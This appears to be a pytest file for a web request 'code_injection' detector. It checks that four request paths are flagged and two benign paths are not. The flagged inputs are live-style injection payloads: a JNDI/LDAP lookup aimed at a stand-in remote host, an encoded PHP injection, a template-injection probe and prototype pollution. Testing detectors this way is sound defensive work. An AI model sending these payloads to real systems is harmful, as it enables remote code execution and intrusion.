import pytest

from pipeline.visitors.classes.code_injection import code_injection
from pipeline.visitors.part import TARGET, Part


@pytest.mark.parametrize(
    "text",
    [
        "/?a=${jndi:ldap://x.example/a}",
        "/?a=%3C%3Fphp%20phpinfo();",
        "/?a={{7*7}}",
        "/?__proto__[a]=b",
    ],
)
def test_it_is_seen(text: str) -> None:
    assert list(code_injection(Part(TARGET, text)))


@pytest.mark.parametrize("text", ["/?q=kelas+hukum", "/berita/java/"])
def test_it_is_not_seen(text: str) -> None:
    assert not list(code_injection(Part(TARGET, text)))
